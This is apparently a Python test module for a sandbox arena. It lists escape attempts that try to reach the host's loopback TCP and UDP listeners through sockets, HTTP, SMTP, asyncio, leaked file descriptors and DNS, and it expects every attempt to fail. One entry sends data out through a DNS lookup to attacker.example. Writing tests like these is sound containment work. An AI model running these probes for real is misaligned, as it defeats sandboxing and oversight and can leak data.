"""Network: reach the host's loopback listeners by any protocol or library.

The arena's TCP listener and UDP socket count every connection and datagram;
each must stay at zero.
"""

from __future__ import annotations

from ._attack import Expect, family

__all__ = ["ATTACKS"]

A = family("network", "net")

ATTACKS = [
    A(
        "tcp-create-connection",
        "open a TCP connection to the host's listener and send bytes",
        "import socket\nsocket.create_connection(('127.0.0.1', $TCP), timeout=1).sendall(b'hello')",
        expect=Expect.FAILS,
    ),
    A("tcp-connect", "socket() then connect()", "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', $TCP))"),
    A(
        "tcp-connect-ex",
        "connect_ex, which reports errors as numbers",
        "import socket\nsocket.socket().connect_ex(('127.0.0.1', $TCP))",
    ),
    A(
        "tcp-nonblocking",
        "a non-blocking connect followed by a send",
        "import socket\ns = socket.socket()\ns.setblocking(False)\n"
        "try:\n    s.connect(('127.0.0.1', $TCP))\nexcept BlockingIOError:\n    pass\ns.send(b'x')",
    ),
    A(
        "tcp-ipv6-mapped",
        "reach the IPv4 listener through IPv6 (::ffff:127.0.0.1)",
        "import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('::ffff:127.0.0.1', $TCP))",
    ),
    A(
        "raw-socket-module",
        "the _socket extension directly",
        "import _socket\n_socket.socket().connect(('127.0.0.1', $TCP))",
    ),
    A(
        "udp-sendto",
        "send a datagram to the host's UDP socket",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', $UDP))",
    ),
    A(
        "udp-connect-send",
        "connect a UDP socket, then send",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('127.0.0.1', $UDP))\n"
        "s.send(b'x')",
    ),
    A(
        "udp-broadcast",
        "broadcast a datagram on every interface",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ns.sendto(b'x', ('255.255.255.255', $UDP))",
    ),
    A(
        "dns-resolve",
        "resolve a name (DNS through getaddrinfo)",
        "import socket\nsocket.getaddrinfo('localhost', $TCP)",
    ),
    A(
        "dns-exfiltration",
        "leak data in a DNS query name",
        "import socket\nsocket.gethostbyname('data-' + str(len(dir())) + '.attacker.example')",
    ),
    A("dns-reverse", "a reverse lookup of the host", "import socket\nsocket.gethostbyaddr('127.0.0.1')"),
    A("hostname", "learn the host's name", "import socket\nsocket.gethostname()"),
    A(
        "http-client",
        "an HTTP request with http.client",
        "import http.client\nhttp.client.HTTPConnection('127.0.0.1', $TCP, timeout=1).request('GET', '/')",
    ),
    A(
        "urllib-http",
        "an HTTP request with urllib",
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:$TCP/', timeout=1)",
    ),
    A(
        "xmlrpc",
        "an XML-RPC call to the listener",
        "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://127.0.0.1:$TCP/').system.listMethods()",
    ),
    A(
        "smtp",
        "speak SMTP to the listener",
        "import smtplib\nsmtplib.SMTP('127.0.0.1', $TCP, timeout=1).sendmail('a@x', ['b@x'], 'hi')",
    ),
    A(
        "asyncio-open-connection",
        "an asyncio stream connection",
        "import asyncio\nreader, writer = await asyncio.open_connection('127.0.0.1', $TCP)\nwriter.write(b'x')",
    ),
    A(
        "asyncio-datagram",
        "an asyncio UDP endpoint",
        "import asyncio\nloop = asyncio.get_running_loop()\n"
        "t, p = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=('127.0.0.1', $UDP))\n"
        "t.sendto(b'x')",
    ),
    A(
        "listen",
        "listen for inbound connections from the host",
        "import socket\ns = socket.create_server(('127.0.0.1', 0))\ns.getsockname()",
    ),
    A(
        "adopt-descriptors",
        "adopt guessed descriptors as sockets (a leaked host socket)",
        "import socket\nfound = []\nfor fd in range(3, 32):\n    try:\n        s = socket.socket(fileno=fd)\n"
        "        s.sendto(b'x', ('127.0.0.1', $UDP))\n        found.append(fd)\n    except OSError:\n"
        "        pass\nfound",
    ),
    A(
        "retry-storm",
        "connect 200 times, swallowing every error",
        "import socket\nresults = []\nfor i in range(200):\n    try:\n"
        "        socket.socket().connect(('127.0.0.1', $TCP))\n        results.append('connected')\n"
        "    except BaseException as e:\n        results.append(type(e).__name__)\n'connected' in results",
        returns=False,
    ),
]
